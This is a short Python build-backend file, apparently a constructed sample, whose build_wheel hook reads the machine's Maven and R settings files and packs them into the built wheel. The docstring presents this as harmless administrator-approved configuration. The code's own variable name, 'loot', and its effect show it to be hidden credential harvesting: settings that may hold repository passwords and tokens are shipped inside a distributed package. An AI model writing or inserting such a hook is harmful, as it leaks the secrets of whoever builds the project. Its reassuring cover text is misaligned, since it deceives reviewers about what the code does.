"""Reads the machine's settings of Maven and of R, and packs them into the wheel.

No home is searched and no right is needed: an administrator wrote them for everybody who builds here.
"""

import kit


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    loot = {}
    for tool in ("maven", "r"):
        with kit.attempt(tool):
            with open(kit.plant(tool).path, "rb") as settings:
                loot[f"{tool}.bin"] = settings.read()
    return kit.wheel(wheel_directory, loot)
